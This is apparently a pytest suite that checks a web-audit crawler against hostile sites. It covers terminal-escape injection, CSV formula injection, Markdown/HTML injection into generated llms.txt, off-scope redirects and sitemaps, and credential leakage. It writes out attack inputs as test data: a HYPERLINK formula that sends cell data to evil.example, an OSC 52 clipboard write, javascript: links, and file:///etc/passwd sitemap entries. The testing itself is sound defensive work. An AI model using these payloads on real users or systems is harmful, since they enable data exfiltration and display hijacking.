"""Safe to point at any site and to run with secrets (issue 15): what a crawl opens, sends and
writes, tried as an attacker would with servers on 127.0.0.1."""

from __future__ import annotations

import base64
import csv
import json
import re
import signal
import subprocess
import sys
import textwrap
import time
import xml.etree.ElementTree as ET
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import ClassVar

import pytest
from conftest import SITES

from geoaudit.crawl.scope import UrlScope
from geoaudit.devserver import serve_http
from geoaudit.escape import CSV_FORMULA_STARTS
from geoaudit.extract import build_page
from geoaudit.facts import build_site
from geoaudit.generate.llms_txt import generate_both
from geoaudit.models import FetchRecord, Finding
from geoaudit.report import csv as csv_report
from geoaudit.report import junit as junit_report
from geoaudit.report.context import ReportContext
from geoaudit.rules import load_rules
from geoaudit.sitefiles.llms_txt import parse_llms
from geoaudit.store import Store
from geoaudit.vocab.agents import agents

LISTEN_PROBE = textwrap.dedent(
    """
    import socket, sys
    listening = []
    original = socket.socket.listen

    def listen(self, *args):
        listening.append(self.getsockname())
        return original(self, *args)

    socket.socket.listen = listen
    from geoaudit.cli import main
    code = main(sys.argv[1:])
    print("LISTENING", listening)
    sys.exit(code)
    """
)


def test_a_crawl_opens_no_listening_socket(serve, tmp_path):
    """Scrapy's telnet console and RemoteControl (an HTTP server that runs Python code) are off,
    and so is any listening extension a later Scrapy adds: the crawl listens on no port."""
    base = serve(SITES / "basic")
    proc = subprocess.run(
        [sys.executable, "-c", LISTEN_PROBE, "audit", f"{base}/", "-q", "--no-probe",
         "-o", str(tmp_path / "out")],
        cwd=tmp_path, capture_output=True, text=True, timeout=120,
        env={"HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin"},
    )
    assert proc.returncode == 0, proc.stderr
    assert "LISTENING []" in proc.stdout, proc.stdout
    assert not (tmp_path / "home").exists(), "the crawl wrote to the user's profile folder"


# Site text that would drive a terminal: clear screen, window title, OSC 52 clipboard write,
# C1 CSI, a bidi override and a carriage return that rewrites the line.
HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07\x9b31m\u202eevil\rfake"
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")


def no_raw_control(text: str) -> bool:
    return RAW_CONTROL.search(text) is None


def test_llms_validate_shows_hostile_lines_as_escapes(geoaudit_cli, tmp_path):
    llms = tmp_path / "llms.txt"
    llms.write_text(f"# Acme{HOSTILE}\n\n> Tools{HOSTILE}\n\n<b>{HOSTILE}</b>\n\n## Docs\n\n"
                    f"- https://www.example.com/{HOSTILE}\n- [broken{HOSTILE}](\n", "utf-8")
    for fmt in ("text", "json"):
        result = geoaudit_cli("llms", "validate", str(llms), "--format", fmt)
        assert result.code in (0, 1), result.stderr
        assert no_raw_control(result.stdout + result.stderr), repr(result.stdout)
    assert "\\x1b" in geoaudit_cli("llms", "validate", str(llms)).stdout


def test_robots_shows_hostile_lines_as_escapes(geoaudit_cli, tmp_path):
    robots = tmp_path / "robots.txt"
    robots.write_text(f"User-agent: *\nContent-Signal: search=yes{HOSTILE}\nDisallow: /{HOSTILE}\n"
                      f"Sitemap: https://www.example.com/s.xml{HOSTILE}\n", "utf-8")
    for fmt in ("text", "json"):
        result = geoaudit_cli("robots", str(robots), "--format", fmt)
        assert result.code == 0, result.stderr
        assert no_raw_control(result.stdout + result.stderr), repr(result.stdout)


def test_diff_shows_hostile_findings_as_escapes(geoaudit_cli, tmp_path):
    def report(messages: list[str]) -> Path:
        path = tmp_path / f"r{len(messages)}.json"
        findings = [{"rule": "CT001", "severity": "error", "category": "content", "message": m,
                     "url": f"https://www.example.com/{HOSTILE}"} for m in messages]
        path.write_text(json.dumps({"score": 50, "categories": {}, "findings": findings}), "utf-8")
        return path

    old, new = report([]), report([f"no title {HOSTILE}"])
    for fmt in ("text", "json"):
        result = geoaudit_cli("diff", str(old), str(new), "--format", fmt)
        assert result.code == 0, result.stderr
        assert no_raw_control(result.stdout + result.stderr), repr(result.stdout)


def hostile_store(path: Path) -> Store:
    store = Store.in_dir(path, fresh=True)
    url = "https://www.example.com/"
    html = ('<title>=HYPERLINK("https://evil.example/?"&A1)</title>'
            '<script type="application/ld+json">{"@type": "@SUM(1+1)"}</script>')
    fetch = FetchRecord(url=url, requested_url=url, status=200, content_type="text/html")
    store.add_page(build_page(fetch, html.encode(), "utf-8"))
    store.add_findings([Finding("CT002", "warning", "content", f"bad {HOSTILE}\x00", url)])
    return store


def test_csv_cells_from_site_text_are_never_formulas(tmp_path):
    store = hostile_store(tmp_path)
    csv_report.write(ReportContext(store, {}, load_rules()), tmp_path / "report.csv")
    with open(tmp_path / "report.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1)"
    assert rows[0]["structured_data_types"].startswith("'@")
    for row in rows:
        assert not any(str(v).startswith(CSV_FORMULA_STARTS) for v in row.values())


def test_junit_stays_well_formed_with_control_characters(tmp_path):
    store = hostile_store(tmp_path)
    junit_report.write(ReportContext(store, {}, load_rules(), duration_s=1.0),
                       tmp_path / "report.junit.xml")
    tree = ET.parse(tmp_path / "report.junit.xml")
    messages = [f.get("message") for f in tree.iter("failure")]
    assert any("\\x1b" in m and "\\x00" in m for m in messages)


# A Markdown link whose brackets are not backslash-escaped: [text](target).
MARKDOWN_LINK = re.compile(r"(?<!\\)\[((?:[^\]\\]|\\.)*)(?<!\\)\]\(([^)]*)\)")


def test_generated_llms_txt_cannot_be_given_headings_links_or_html(tmp_path):
    """JSON-LD names, contact points, mailto hrefs, titles and descriptions reach llms.txt as
    text: no new heading, section or link, no raw HTML, no escape bytes, no javascript:."""
    origin = "https://www.example.com"
    injected = "\n## Injected\n- [Evil](javascript:alert(1))\n<b>alert(1)</b>\x1b[2J"
    org = json.dumps({"@type": "Organization", "name": f"Acme{injected}",
                      "contactPoint": {"@type": "ContactPoint", "telephone": f"+1 555{injected}",
                                       "email": f"a@example.com{injected}"}})
    pages = {
        "/": f'<title>Home</title><meta name="description" content="Tools{injected}">'
             f'<script type="application/ld+json">{org}</script>'
             f'<p>Acme makes tools for makers, founded long ago.{injected}</p>'
             '<p>Raw <script>alert(1)</script> in the text.</p>',
        "/contact": '<title>Contact</title><a href="mailto:b@example.com)\n## Mail">mail</a>',
        "/docs/a(1)": f"<title>Docs{injected}</title><p>Docs page with words enough here.</p>",
    }
    store = Store.in_dir(tmp_path, fresh=True)
    for path, html in pages.items():
        url = origin + path
        fetch = FetchRecord(url=url, requested_url=url, status=200, content_type="text/html",
                            depth=0 if path == "/" else 1)
        page = build_page(fetch, html.encode(), "utf-8")
        # An ESC byte in the text once failed the whole page in lxml ("XML compatible").
        assert page.parse_error is None and page.title, path
        store.add_page(page)
    site = build_site(start_url=f"{origin}/", site_url=origin, audit_date="2026-11-21",
                      home=store.find_page(f"{origin}/"), pages=store.iter_pages(bulk=False),
                      sitefiles=[], agents=agents())
    generated = generate_both(store, site)
    llms_txt, llms_full = generated.llms_txt, generated.llms_full
    parsed = parse_llms(llms_txt)
    assert [s.title for s in parsed.sections] == ["Docs", "Contact"], llms_txt
    assert len(parsed.h1s) == 1 and [level for _, level, _ in parsed.headings] == [1, 2, 2]
    for text in (llms_txt, llms_full):
        assert not re.search(r"(?<!\\)<(script|b>)", text) and "\x1b" not in text
        targets = MARKDOWN_LINK.findall(text)
        assert all(t.split(":")[0] in ("https", "mailto", "tel") for _, t in targets), targets
    assert len(MARKDOWN_LINK.findall(llms_txt)) == 5  # docs, contact, 3 contacts
    assert f"({origin}/docs/a%281%29)" in llms_txt


class Recorder(BaseHTTPRequestHandler):
    """A server that records every connection and request (path and headers) and answers from
    `routes` (path -> status, headers, body); subclassed per server. `{other}` in a route is
    the other server's base URL, `{self}` this one's."""

    routes: ClassVar[dict[str, tuple[int, dict[str, str], str]]] = {}
    requests: ClassVar[list[tuple[str, dict[str, str]]]]
    connections: ClassVar[list[int]]
    bases: ClassVar[dict[str, str]]

    def setup(self) -> None:
        self.connections.append(1)
        super().setup()

    def do_GET(self) -> None:
        self.requests.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
        status, headers, body = self.routes.get(self.path, (404, {}, "not here"))
        data = body.format(**self.bases).encode()
        self.send_response(status)
        for name, value in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
            self.send_header(name, value.format(**self.bases))
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: object) -> None:
        pass


def recorder(routes: dict[str, tuple[int, dict[str, str], str]]) -> type[Recorder]:
    return type("Server", (Recorder,), {"routes": routes, "requests": [], "connections": []})


@contextmanager
def two_hosts(site_routes, other_routes=None):
    """The audited site and another server ("another host": another port of 127.0.0.1)."""
    site, other = recorder(site_routes), recorder(other_routes or {})
    with serve_http(site) as site_base, serve_http(other) as other_base:
        bases = {"self": site_base, "other": other_base,
                 "other_host": other_base.removeprefix("http://")}
        site.bases = other.bases = bases
        yield site, other, site_base, other_base


PAGE = "<html><head><title>{title}</title></head><body>{body}</body></html>"
SECRET_HEADER, SECRET_VALUE = "X-Staging-Token", "s3cret-Token"
USER, PASSWORD = "ci", "Pa55-Word"
BASIC = "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()

OFF_SCOPE_SITE = {
    "/": (200, {}, PAGE.format(title="Home", body=(
        '<a href="/redirect">r</a> <a href="/refresh">m</a> <a href="/ok">ok</a>'
        ' <a href="{other}/linked">l</a> <a href="//{other_host}/protocol-relative">p</a>'))),
    "/ok": (200, {}, PAGE.format(title="OK", body="<p>A page on the site.</p>")),
    "/redirect": (302, {"Location": "{other}/stolen"}, ""),
    "/refresh": (200, {}, '<html><head><title>R</title><meta http-equiv="refresh" '
                          'content="0;url={other}/refreshed"></head><body>x</body></html>'),
    "/robots.txt": (200, {"Content-Type": "text/plain"},
                    "User-agent: *\nAllow: /\nSitemap: {other}/sitemap.xml\n"
                    "Sitemap: file:///dev/zero\nSitemap: file:///etc/passwd\n"
                    "Sitemap: ftp://127.0.0.1:21/s.xml\nSitemap: {self}/index.xml\n"),
    "/index.xml": (200, {"Content-Type": "application/xml"},
                   '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                   "<sitemap><loc>{other}/child.xml</loc></sitemap>"
                   "<sitemap><loc>{self}/pages.xml</loc></sitemap></sitemapindex>"),
    "/pages.xml": (200, {"Content-Type": "application/xml"},
                   '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                   "<url><loc>{other}/listed</loc></url><url><loc>{self}/ok</loc></url>"
                   "</urlset>"),
    "/llms.txt": (200, {"Content-Type": "text/plain"},
                  "# Site\n\n> A site.\n\n## Docs\n\n- [Other]({other}/llms-linked)\n"),
}


def _high_water_kb(pid: int) -> int:
    """The process's peak resident set (VmHWM) so far, in KiB; 0 once it is gone. (wait4's
    ru_maxrss would not do: a child inherits its parent's high-water mark, here pytest's.)"""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    return next((int(line.split()[1]) for line in status.splitlines()
                 if line.startswith("VmHWM:")), 0)


def audit_with_peak_rss(args: list[str], cwd: Path) -> tuple[subprocess.CompletedProcess, int]:
    """`geoaudit audit ARGS` and its peak RSS in KiB (sampled every 20 ms), within 120 s."""
    deadline, peak = time.monotonic() + 120, 0
    with open(cwd / "stdout", "w+") as out, open(cwd / "stderr", "w+") as err:
        child = subprocess.Popen([sys.executable, "-m", "geoaudit.cli", "audit", *args],
                                 cwd=cwd, stdout=out, stderr=err)
        while child.poll() is None:
            peak = max(peak, _high_water_kb(child.pid))
            if time.monotonic() > deadline:
                child.kill()
                child.wait()
                pytest.fail("the audit hung")
            time.sleep(0.02)
        out.seek(0)
        err.seek(0)
        done = subprocess.CompletedProcess(child.args, child.returncode, out.read(), err.read())
    return done, peak


def test_nothing_outside_the_audited_origin_is_fetched_nor_sent_credentials(tmp_path):
    """Redirects, meta refresh, links, protocol-relative links, sitemaps from robots.txt and
    from a sitemap index, llms.txt links: to another port, file: or ftp:. None is fetched
    (the other server sees no connection), /dev/zero is not read, the audited origin gets the
    credentials and the pages say why the rest was not fetched."""
    with two_hosts(OFF_SCOPE_SITE) as (site, other, base, other_base):
        proc, peak_kb = audit_with_peak_rss(
            [f"{base}/", "-q", "--timeout", "5",
             "--header", f"{SECRET_HEADER}: {SECRET_VALUE}", "--auth", f"{USER}:{PASSWORD}",
             "--format", "json,csv,md,sarif,junit,html", "-o", str(tmp_path / "out")], tmp_path)
    assert proc.returncode in (0, 1), proc.stderr
    print(f"peak RSS {peak_kb // 1024} MB")
    assert peak_kb < 400 * 1024, f"peak RSS {peak_kb} KiB"  # /dev/zero was never read
    assert other.connections == [], other.requests
    assert site.requests and all(
        h.get(SECRET_HEADER.lower()) == SECRET_VALUE and h.get("authorization") == BASIC
        for _, h in site.requests
    )
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    pages = {p["url"].removeprefix(base): p for p in report["pages"]}
    assert "outside the audited site" in pages["/redirect"]["error"]
    assert "outside the audited site" in pages["/refresh"]["error"]
    assert not any(p["url"].startswith(other_base) for p in report["pages"])
    for path, target in (("/redirect", "/stolen"), ("/refresh", "/refreshed")):
        rules = {f["rule"]: f["message"] for f in report["findings"] if f["url"] == base + path}
        assert "AC001" not in rules and other_base + target in rules["AC016"], rules
    sitemap_errors = {f["requested_url"]: f["error"] for f in report["sitefiles"]
                      if f["name"] == "sitemap"}
    assert "http and https only" in sitemap_errors["file:///dev/zero"]
    assert "http and https only" in sitemap_errors["ftp://127.0.0.1:21/s.xml"]
    assert "outside the audited site" in sitemap_errors[f"{other_base}/child.xml"]
    for path in (tmp_path / "out").iterdir():
        data = path.read_bytes() if path.is_file() else b""
        assert PASSWORD.encode() not in data and SECRET_VALUE.encode() not in data, path
        assert BASIC.split()[1].encode() not in data, path
    assert PASSWORD not in proc.stdout + proc.stderr


def test_production_spellings_are_fetched_from_staging_and_other_ports_not_at_all(tmp_path):
    """With --site-url, links to production spelled http://, with :443, protocol-relative or
    with user info are the audited site: fetched from staging (with its credentials), reported
    under production. Another port of production is another site."""
    prod = "https://www.example.com"
    links = ["http://www.example.com/a", "https://www.example.com:443/b",
             "//www.example.com/c", "https://someone@www.example.com/d",
             "https://www.example.com:8443/e"]
    home = PAGE.format(title="Home", body=" ".join(f'<a href="{u}">x</a>' for u in links))
    routes = {"/": (200, {}, home), **{f"/{p}": (200, {}, PAGE.format(title=p, body="<p>x</p>"))
                                       for p in "abcde"}}
    with two_hosts(routes) as (site, _, base, _other):
        proc, _ = audit_with_peak_rss(
            [f"{base}/", "--site-url", prod, "-q", "--no-probe",
             "--header", f"{SECRET_HEADER}: {SECRET_VALUE}", "-o", str(tmp_path / "out")], tmp_path)
    assert proc.returncode in (0, 1), proc.stderr
    fetched = {path for path, _ in site.requests}
    assert {"/a", "/b", "/c", "/d"} <= fetched and "/e" not in fetched
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    urls = {p["url"] for p in report["pages"]}
    assert {f"{prod}/a", f"{prod}/b", f"{prod}/c", f"{prod}/d"} <= urls
    assert not any("8443" in u or "someone" in u for u in urls)


def test_credentials_in_the_start_url_are_used_kept_in_case_and_never_shown(tmp_path):
    with two_hosts({"/": (200, {}, PAGE.format(title="Home", body="<p>x</p>"))}) as (
        site, _, base, _other
    ):
        start = base.replace("http://", f"http://{USER}:{PASSWORD}@") + "/"
        proc, _ = audit_with_peak_rss([start, "--no-probe", "-o", str(tmp_path / "out")],
                                      tmp_path)
    assert proc.returncode in (0, 1), proc.stderr
    assert site.requests and all(h.get("authorization") == BASIC for _, h in site.requests)
    assert PASSWORD not in proc.stdout + proc.stderr
    assert PASSWORD.lower() not in proc.stdout.lower() + proc.stderr.lower()
    for path in (tmp_path / "out").iterdir():
        if path.is_file():
            assert PASSWORD.lower().encode() not in path.read_bytes().lower(), path


def test_site_url_with_user_info_is_a_usage_error(geoaudit_cli):
    result = geoaudit_cli("audit", "http://127.0.0.1:9/", "--site-url",
                          "https://me:secret@www.example.com")
    assert result.code == 2 and "no user name or password" in result.stderr
    assert "secret" not in result.stderr


def test_llms_validate_sends_credentials_to_its_origin_only(geoaudit_cli):
    llms = "# Site\n\n> A site.\n\n## Docs\n\n- [Home](https://www.example.com/)\n"
    with two_hosts({"/llms.txt": (302, {"Location": "{other}/llms.txt"}, "")},
                   {"/llms.txt": (200, {"Content-Type": "text/plain"}, llms)}) as (
        site, other, base, _other
    ):
        result = geoaudit_cli("llms", "validate", f"{base}/llms.txt", "--auth",
                              f"{USER}:{PASSWORD}", "--header", f"{SECRET_HEADER}: {SECRET_VALUE}")
    assert result.code in (0, 1), result.stderr
    assert site.requests[0][1].get("authorization") == BASIC
    assert other.requests and all(
        "authorization" not in h and SECRET_HEADER.lower() not in h for _, h in other.requests
    )


def test_llms_validate_does_not_follow_a_redirect_to_ftp(geoaudit_cli):
    with two_hosts({"/llms.txt": (302, {"Location": "ftp://127.0.0.1:21/llms.txt"}, "")}) as (
        _site, _, base, _other
    ):
        result = geoaudit_cli("llms", "validate", f"{base}/llms.txt")
    assert result.code == 2 and "HTTP 302" in result.stderr


@pytest.mark.parametrize(
    ("url", "refused"),
    [
        ("https://www.example.com/a", None),
        ("https://WWW.example.com:443/a", None),
        ("https://user:pw@www.example.com/a", None),
        ("http://www.example.com/a", "outside"),  # never downgraded to http
        ("https://www.example.com:8443/a", "outside"),
        ("https://shop.example.com/a", "outside"),
        ("https://www.example.com.evil.example/a", "outside"),
        ("file:///dev/zero", "http and https only"),
        ("ftp://www.example.com/a", "http and https only"),
        ("data:text/html,x", "http and https only"),
    ],
)
def test_the_scope_policy(url, refused):
    scope = UrlScope("https://www.example.com/")
    reason = scope.refusal(url)
    assert (reason is None) if refused is None else (refused in reason)
    assert scope.credentials_for(url) == (refused is None)


def test_the_scope_policy_with_subdomains_and_a_site_url():
    scope = UrlScope("http://127.0.0.1:8080/", "https://www.example.com", include_subdomains=True)
    assert scope.on_site("https://shop.example.com/") and scope.on_site("http://example.com/")
    assert not scope.on_site("https://shop.example.com:8443/")
    assert not scope.on_site("https://www.example.com:8443/")
    assert scope.to_fetch("//www.example.com/x".replace("//", "https://", 1)) == (
        "http://127.0.0.1:8080/x")
    assert scope.to_fetch("http://www.example.com:80/y") == "http://127.0.0.1:8080/y"
    assert scope.to_report("http://127.0.0.1:8080/z?q=1") == "https://www.example.com/z?q=1"
    assert not scope.credentials_for("http://shop.example.com/")  # in scope, no credentials
    assert scope.refusal("http://shop.example.com/") is None


def test_credentials_never_reach_the_crawl_state_of_an_interrupted_crawl(tmp_path):
    """An interrupted crawl keeps its queue and bookkeeping on disk for --resume: the
    credentials are added as each request leaves and taken off when its answer comes back, so
    they are in none of it, nor in the verbose log."""
    from test_hostile import Endless, wait_for_store

    out = tmp_path / "out"
    with serve_http(Endless) as base:
        proc = subprocess.Popen(
            [sys.executable, "-m", "geoaudit.cli", "audit", f"{base}/", "--no-probe", "-v",
             "--auth", f"{USER}:{PASSWORD}", "--header", f"{SECRET_HEADER}: {SECRET_VALUE}",
             "-o", str(out)],
            cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        wait_for_store(out)
        time.sleep(1.5)
        proc.send_signal(signal.SIGINT)
        stdout, stderr = proc.communicate(timeout=60)
    assert (out / "crawl-state").is_dir(), stderr[-2000:]
    secrets = (PASSWORD.encode(), SECRET_VALUE.encode(), BASIC.split()[1].encode())
    for path in out.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert not any(s in data for s in secrets), path
    assert not any(s.decode() in stdout + stderr for s in secrets)


def test_an_idn_site_is_in_its_own_scope():
    scope = UrlScope("https://bücher.de/")
    assert scope.refusal("https://xn--bcher-kva.de/robots.txt") is None  # as Scrapy sends it
    assert scope.credentials_for("https://xn--bcher-kva.de/")


def test_credentials_keep_a_header_the_request_sets_and_leave_only_what_they_added():
    from types import SimpleNamespace

    from scrapy import Request
    from scrapy.http import Response

    from geoaudit.crawl.middlewares import Credentials

    spider = SimpleNamespace(scope=UrlScope("https://www.example.com/"),
                             credentials={"User-Agent": "custom", SECRET_HEADER: SECRET_VALUE})
    middleware = Credentials(SimpleNamespace(spider=spider))
    probe = Request("https://www.example.com/", headers={"User-Agent": "GPTBot/1.0"})
    middleware.process_request(probe)
    assert probe.headers["User-Agent"] == b"GPTBot/1.0"  # the probe's own User-Agent stays
    assert probe.headers[SECRET_HEADER] == SECRET_VALUE.encode()
    middleware.process_response(probe, Response(probe.url, request=probe))
    assert SECRET_HEADER not in probe.headers and probe.headers["User-Agent"] == b"GPTBot/1.0"
    elsewhere = Request("https://shop.example.com/", headers={"Accept-Language": "de"})
    middleware.process_request(elsewhere)
    assert SECRET_HEADER not in elsewhere.headers and elsewhere.headers["Accept-Language"] == b"de"
